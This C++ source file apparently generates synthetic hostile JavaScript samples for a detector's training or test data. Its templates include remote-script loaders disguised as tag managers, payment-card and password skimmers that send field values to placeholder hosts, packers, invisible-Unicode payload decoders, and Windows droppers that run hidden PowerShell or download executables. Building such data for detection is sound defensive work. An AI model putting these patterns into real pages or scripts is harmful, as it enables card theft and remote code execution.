#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"
#include "fovea/core/error.h"

// JavaScript that hides nothing but where it loads from or sends to: loaders that look like tag
// managers, decoders of numbers, packers, thieves of form fields, droppers of Windows scripts.
namespace fovea::augment {
namespace {

// An address that is put together as it runs, or that looks like a library's.
std::string Source(Junk& j) {
  return j.Pick({"'~url.js~'", "\"~url.js~\"", "'//~host~/~word~.js'",
                 "'https://'+'~host~'+'/'+"
                 "'~letters~'",
                 "['https:','','~host~','~word~.js'].join('/')", "atob('~b64s~')",
                 "window.atob(\"~b64s~\")", "'//~host~/gtm.js?id=GTM-~letters~'",
                 "'https://~host~/jquery-~version~.min.js'", "'//~host~/gtag/js?id=G-~digits~'",
                 "'https://~host~/ajax/libs/~word~/~version~/~letters~.js?v='+Date.now()",
                 "String.fromCharCode(~codes~)", "'~host~'.replace(/^/,'https://')+'/~letters~'",
                 "location.protocol+'//~host~/'+Math.random().toString(36).slice(2)+'.js'"});
}

// One of a loader. What stands there in plain words is what everybody's tags have, too.
std::string FarSource(Junk& j) {
  if (j.Chance(0.1)) return Source(j);
  return j.Pick(
      {"atob('~b64s~')", "window.atob(\"~b64s~\")", "String.fromCharCode(~codes~)",
       "['ht','tps:','//','~word~','.~host~','/~letters~.js'].join('')",
       "'~letters~//~host~'.replace('~letters~','')",
       "'sj.~letters~/~letters~//:sptth'.split('')"
       ".reverse().join('')",
       "decodeURIComponent('~pct~')", "unescape('~pct~')", "\"~esc~\"",
       "atob('~b64s~')+'?'+Date.now()",
       "location.protocol+'//'+atob('~b64s~')+'/'+Math.random().toString(36).slice(2)+'.js'",
       "'https://'+[~rows~].map(function(~7~){return String.fromCharCode(~7~^~small~)}).join('')",
       "'ht'+'tp'+'s:'+'//'+'~word~'+'.'+'invalid'+'/'+'~word~'"});
}

std::string Rows(Junk& j) {
  std::string text;
  const bool words = j.Chance(0.3);
  for (int64_t i = j.Int(20, 160); i > 0; --i)
    text += (words ? "'" + j.Letters(2) + "'" : StrCat(j.Int(20, 260))) + (i > 1 ? "," : "");
  return text;
}

// What a packer leaves: a text of base-36 words, and the words.
std::string Packed(Junk& j) {
  std::string text, words;
  const int64_t count = j.Int(12, 70);
  for (int64_t i = j.Int(20, 120); i > 0; --i) {
    const int64_t word = j.Int(0, count - 1);
    text += word < 10 ? StrCat(word) : std::string(1, static_cast<char>('a' + word % 26));
    text += j.Pick({" ", ".", "(", ");", "=", "={", "};", "+", ",", "[\\'", "\\']", "==", ";"});
  }
  const std::string telling[] = {"eval",   "createElement", "script",      "src", "document",
                                 "cookie", "fromCharCode",  "appendChild", "atob"};
  for (int64_t i = 0; i < count; ++i)
    words += (i > 0 ? "|" : "") +
             (j.Chance(0.25) ? telling[j.random().Below(std::size(telling))] : j.Word());
  return "'" + text + "',~radix~," + StrCat(count) + ",'" + words + "'.split('|'),0,{}";
}

// A long string of characters that show nothing.
std::string Invisible(Junk& j) {
  const std::string_view kinds[] = {"\xEF\xB8", "\xF3\xA0\x84", "\xE2\x80"};
  const size_t kind = j.random().Below(3);
  std::string text;
  for (int64_t i = j.Int(60, 500); i > 0; --i) {
    text += kinds[kind];
    // U+FE00 to FE0F; U+E0100 to E013F; U+200B to U+200F.
    text += static_cast<char>(kind == 0   ? 0x80 + j.Int(0, 15)
                              : kind == 1 ? 0x80 + j.Int(0, 63)
                                          : 0x8B + j.Int(0, 4));
  }
  return text;
}

std::string Look(Junk& j) { return "~5~(0x" + j.Hex(1) + (j.Chance(0.3) ? ",'~letters~')" : ")"); }

// An array of words that is turned until a sum is right, and code that looks every word up in it.
std::string Salad(Junk& j) {
  std::string text;
  if (j.Chance(0.6))
    text = "(function(~6~,~7~){var ~9~=~6~();while(!![]){try{var ~8~=-parseInt(" + Look(j) +
           ")/0x1+parseInt(" + Look(j) + ")/0x2*(-parseInt(" + Look(j) +
           ")/0x3);if(~8~===~7~)break;else ~9~['push'](~9~['shift']());}catch(~2~){~9~['push'](~9~["
           "'shift']());}}}(~1~,0x" +
           j.Hex(3) + "));";
  for (int64_t i = j.Int(3, 12); i > 0; --i) {
    text += j.Pick({"document[", "window[", "~4~["}) + Look(j) + "][" + Look(j) + "]";
    text += j.Pick({"(", "=~5~(", "(~3~,"}) + Look(j) + ");";
    if (j.Chance(0.3)) text += "if(" + Look(j) + "!==~3~){return " + Look(j) + ";}";
  }
  std::string items;
  for (int64_t i = j.Int(8, 40); i > 0; --i)
    items += "'" + (j.Chance(0.5) ? j.Base64(j.Int(4, 12)) : j.Letters(j.Int(4, 12))) +
             (i > 1 ? "'," : "'");
  return "(function(){var ~5~=~0~;" + text + "}());function ~0~(~2~,~3~){~2~=~2~-0x" + j.Hex(1) +
         ";return ~1~()[~2~];}function ~1~(){var ~8~=[" + items +
         "];~1~=function(){return ~8~;};return ~1~();}";
}

const Makers& PlainMakers() {
  static const Makers makers = {
      {"src", Source},
      {"far", FarSource},
      {"rows", Rows},
      {"packed", Packed},
      {"radix",
       [](Junk& j) {
         return j.Pick({"36", "62", "~small~"});
       }},
      {"inv", Invisible},
      {"salad", Salad},
      {"place",
       [](Junk& j) {
         return j.Pick(
             {"document.head.appendChild(~0~)", "document.body.appendChild(~0~)",
              "document.getElementsByTagName('head')[0].appendChild(~0~)",
              "document.documentElement.appendChild(~0~)",
              "(document.head||document.body).append(~0~)",
              "document.currentScript.parentNode.insertBefore(~0~,document.currentScript)",
              "var x=document.getElementsByTagName('script')[0];x.parentNode."
              "insertBefore(~0~,x)"});
       }},
      {"card",
       [](Junk& j) {
         return j.Pick({"cc_number", "cc_cid", "cvv", "cvc", "card_number", "cardNumber",
                        "payment[cc_number]", "payment[cc_exp_month]", "credit-card", "cc-exp",
                        "billing[postcode]", "authorizenet_cc_number", "braintree_cc_cid"});
       }},
      {"pay",
       [](Junk& j) {
         return j.Pick({"checkout", "onepage", "payment", "onestepcheckout", "cart", "order",
                        "firecheckout", "billing"});
       }},
      {"send",
       [](Junk& j) {
         return j.Pick({"(new Image()).src=~src~+'?~key~='+~d0~", "new Image().src=~src~+~d0~",
                        "fetch(~src~,{method:'POST',mode:'no-cors',body:~d0~})",
                        "navigator.sendBeacon(~src~,~d0~)",
                        "var ~9~=new XMLHttpRequest();~9~.open('POST',~src~,true);~9~.send(~d0~)",
                        "$.ajax({url:~src~,type:'POST',data:{~key~:~d0~}})",
                        "jQuery.post(~src~,{~key~:~d0~})",
                        "new WebSocket('wss://~host~/~word~').onopen=function(){this.send(~d0~)}",
                        "var ~8~=document.createElement('img');~8~.src=~src~+'?'+~d0~"});
       }},
      {"d0",
       [](Junk& j) {
         return j.Pick({"btoa(~1~)", "encodeURIComponent(~1~)", "btoa(JSON.stringify(~1~))",
                        "JSON.stringify(~1~)", "btoa(unescape(encodeURIComponent(~1~)))", "~1~"});
       }},
      {"call", [](Junk& j) {
         return j.Pick({"eval(~1~)", "new Function(~1~)()", "(new Function(~1~))()",
                        "Function(~1~).call(window)", "window['ev'+'al'](~1~)", "setTimeout(~1~,0)",
                        "(0,eval)(~1~)", "self[\"eval\"](~1~)", "[].constructor.constructor(~1~)()",
                        "(function(){}).constructor(~1~)()", "globalThis.eval(~1~)"});
       }}};
  return makers;
}

constexpr const char* kPlain[] = {
    // Loaders.
    "(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'}"
    ");var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src=~far~;"
    "f.parentNode.insertBefore(j,f);})(window,document,'script','dataLayer','GTM-~letters~');",
    "(function(){var ~0~=document.createElement('script');~0~.async=1;~0~.src=~far~;~place~;})();",
    "(function(a,b,c,d,e){a=b.createElement(c);a.async=1;a.src=e;d=b.getElementsByTagName(c)[0];"
    "d.parentNode.insertBefore(a,d)})(0,document,'script',0,~far~);",
    "!function(){var ~0~=document.createElement(\"script\");~0~.src=~far~;~place~}();",
    "if(/~pay~/.test(location.href)){var ~0~=document.createElement('script');~0~.src=~far~;"
    "~place~;}",
    "window.addEventListener('load',function(){var ~0~=document.createElement('script');~0~.src="
    "~far~;~place~;});",
    "if(!window.~2~){window.~2~=1;var ~0~=document.createElement('script');~0~.src=~far~;~place~;}",
    "(function(i,s,h,k,l,o,f,m){i['GoogleAnalyticsObject']=l;~1~=s.createElement(h);~1~.src=atob(k)"
    ";s.head.appendChild(~1~);})(window,document,'script','~b64s~','ga');",
    "var ~0~=new WebSocket('wss://~host~/~word~?source='+location.href);~0~.onmessage=function(~2~)"
    "{var ~1~=~2~.data;~call~;};",
    "var ~0~=new WebSocket(~far~.replace('https','wss'));~0~.addEventListener('message',function("
    "~2~){var ~1~=~2~.data;~call~});",
    "(function(){var ~0~=new WebSocket(\"wss://~host~:~port~/~letters~\");~0~.onopen=function(){~0~"
    ".send(document.location.host)};~0~.onmessage=function(e){new Function(e.data)();~0~.close()}})"
    "();",
    "fetch(~far~).then(~2~=>~2~.text()).then(~1~=>{~call~});",
    "(async()=>{const ~1~=await(await fetch(~far~)).text();~call~})();",
    "var ~0~=new XMLHttpRequest;~0~.onload=function(){var ~1~=this.responseText;~call~};~0~.open("
    "'GET',~far~);~0~.send();",
    "var ~0~=new EventSource(~far~);~0~.onmessage=({data:~1~})=>{~call~};",
    "navigator.serviceWorker.register('/~word~.js').then(()=>{importScripts(~far~)});",
    "const ~0~=document.querySelector('img#~word~');~0~.onerror=function(){var ~1~=atob(this."
    "dataset.~word~);~call~};",
    // Numbers to text, and run.
    "var ~0~=[~rows~];var ~1~='';for(var ~2~=0;~2~<~0~.length;~2~++)~1~+=String.fromCharCode(~0~["
    "~2~]-~small~);~call~;",
    "(function(~0~,~2~){var ~1~=~0~.map(function(~3~,~4~){return String.fromCharCode(~3~^~2~)})."
    "join('');~call~;})([~rows~],~num~);",
    "let ~1~=[~rows~].reduce((~2~,~3~)=>~2~+String.fromCharCode(~3~),'');~call~;",
    "var ~0~='~digits~~digits~~digits~~digits~~digits~',~1~='';for(var ~2~=0;~2~<~0~.length;~2~+=3)"
    "~1~+=String.fromCharCode(~0~.substr(~2~,3));~call~;",
    "var ~1~=String.fromCharCode.apply(null,[~rows~]);~call~;",
    "function ~0~(~2~){return ~2~.split('~key~').map(function(~3~){return String.fromCharCode("
    "parseInt(~3~,~small~6))}).join('')}var ~1~=~0~('~hex~');~call~;",
    "const ~0~=new Uint8Array([~rows~]),~1~=new TextDecoder().decode(~0~.map(~2~=>~2~^~small~));"
    "~call~;",
    // Packers.
    "eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?String."
    "fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/"
    ",String)){while(c--)d[e(c)]=k[c]||e(c);k="
    "[function(e){return "
    "d[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new "
    "RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}(~packed~))",
    "eval(function(p,a,c,k,e,r){e=String;if(!''.replace(/^/,String)){while(c--)r[c]=k[c]||c;k=["
    "function(e){return r[e]}];e=function(){return'\\\\w+'};c=1};while(c--)if(k[c])p=p.replace(new "
    "RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c]);return p}(~packed~))",
    "eval(function(h,u,n,t,e,r){r='';for(var i=0,len=h.length;i<len;i++){var "
    "s='';while(h[i]!==n[e])"
    "{s+=h[i];i++}for(var j=0;j<n.length;j++)s=s.replace(new RegExp(n[j],'g'),j);r+=String."
    "fromCharCode(parseInt(s,e)-t)}return decodeURIComponent(escape(r))}('~long~~long~',~small~,"
    "'~letters~',~small~,~small~,~small~))",
    // Fields of payments, sent elsewhere.
    "document.addEventListener('submit',function(~0~){if(location.pathname.indexOf('~pay~')<0)"
    "return;var ~1~=Array.from(new FormData(~0~.target));~send~;},true);",
    "setInterval(function(){var ~0~=document.getElementById('~card~'),~2~=document.querySelector("
    "'[name=\"~card~\"]');if(~0~&&~2~&&~0~.value.length>12){var "
    "~1~=~0~.value+'|'+~2~.value;~send~;}"
    "},~num~);",
    "if(/~pay~|~pay~/.test(location.href)){document.querySelectorAll('input,select').forEach("
    "function(~0~){~0~.addEventListener('change',function(){var ~1~=this.name+'='+this.value+'&"
    "~card~';~send~;});});}",
    "var ~1~={};['~card~','~card~','~card~'].forEach(function(~0~){var ~2~=document."
    "getElementsByName(~0~)[0];if(~2~)~1~[~0~]=~2~.value});if(Object.keys(~1~).length>1){~send~;}",
    "$('button[type=submit],.btn-checkout').on('mousedown',function(){var ~1~=$('#co-payment-form,"
    "form[name*=~pay~]').serialize()+'&h='+location.hostname;~send~;});",
    "function ~0~(){var ~1~='';for(var ~2~ of document.forms)for(var ~3~ of "
    "~2~.elements)if(~3~.name"
    ".match(/~card~|cvv|exp/i))~1~+=~3~.name+':'+~3~.value+';';if(~1~&&localStorage.~key~!=~1~){"
    "localStorage.~key~=~1~;~send~;}}setInterval(~0~,~num~);",
    "document.querySelector('#~pay~ iframe').style.display='none';document.querySelector('#~pay~')."
    "insertAdjacentHTML('beforeend','<input id=\"~card~\"><input id=\"cvv\">');document."
    "querySelector('#cvv').onblur=function(){var "
    "~1~=document.getElementById('~card~').value;~send~}"
    ";",
    "document.addEventListener('keyup',function(~0~){if(~0~.target.type=='password'||/card|cvv/."
    "test(~0~.target.name)){var ~1~=~0~.target.value;~send~;}});",
    // Words of an array, looked up by number.
    "~salad~", "~salad~", "~salad~",
    // Characters that show nothing.
    "const ~0~=~2~=>[...~2~].map(~3~=>(~3~=~3~.codePointAt(0),~3~>=0xFE00&&~3~<=0xFE0F?~3~-0xFE00:"
    "~3~>=0xE0100&&~3~<=0xE01EF?~3~-0xE0100+16:null)).filter(~3~=>~3~!==null);eval(Buffer.from(~0~("
    "`~inv~`)).toString('utf-8'));",
    "var ~1~='~inv~'.split('').map(~2~=>~2~.charCodeAt(0)-0xFE00).map(~2~=>~2~.toString(16)).join('"
    "');~1~=decodeURIComponent(~1~);~call~;",
    "var ~1~=`~inv~`.replace(/./gu,~2~=>String.fromCharCode(~2~.codePointAt(0)-0x~hexs~));~call~;",
    "let ~1~='';for(const ~2~ of '~inv~')~1~+=~2~=='\\u200b'?'0':'1';~1~=~1~.match(/.{8}/g).map("
    "~3~=>String.fromCharCode(parseInt(~3~,2))).join('');~call~;",
    // Scripts of Windows.
    "var ~0~=new ActiveXObject('WScript.Shell');~0~.Run('powershell -w hidden -enc "
    "~b64s~',0,false);"
    "WScript.Quit();",
    "var "
    "~0~=WScript.CreateObject('MSXML2.XMLHTTP');~0~.Open('GET','~url.exe~',false);~0~.Send();if("
    "~0~.Status==200){var ~1~=WScript.CreateObject('ADODB.Stream');~1~.Open();~1~.Type=1;~1~.Write("
    "~0~.ResponseBody);~1~.SaveToFile('~word~.exe',2);~1~.Close();}",
    "var ~0~=new "
    "ActiveXObject('Scripting.FileSystemObject'),~1~=~0~.GetSpecialFolder(2)+'\\\\~word~"
    ".~letters~';~0~.CreateTextFile(~1~,true).Write('~long~');new ActiveXObject('WScript.Shell')."
    "Run('wscript '+~1~);",
    "new ActiveXObject('Shell.Application').ShellExecute('cmd.exe','/c start ~url~','','open',0);",
    "try{var ~0~=this['W'+'Script']['CreateObject']('W'+'Script.Sh'+'ell');~0~['R'+'un'](\"cmd /c "
    "~letters~\",0x0);}catch(~2~){}",
    "var ~0~=['~host~','~host~','~host~'];for(var ~2~=0;~2~<~0~.length;~2~++){try{var ~3~=new "
    "ActiveXObject('MSXML2.ServerXMLHTTP.6.0');~3~.open('GET','http://'+~0~[~2~]+'/"
    "~word~.php?~key~="
    "'+Math.random(),false);~3~.send();var ~1~=~3~.responseText;if(~1~.length>~num~){eval(~1~);"
    "break;}}catch(e){}}",
    "GetObject('winmgmts:').Get('Win32_Process').Create('mshta ~url~',null,null,~small~);"};

}  // namespace

std::string PlainScriptLookalike(Junk& junk) {
  if (junk.Chance(0.4)) return TagLookalike(junk);
  return FillAny(kPlain, PlainMakers(), junk);
}

}  // namespace fovea::augment
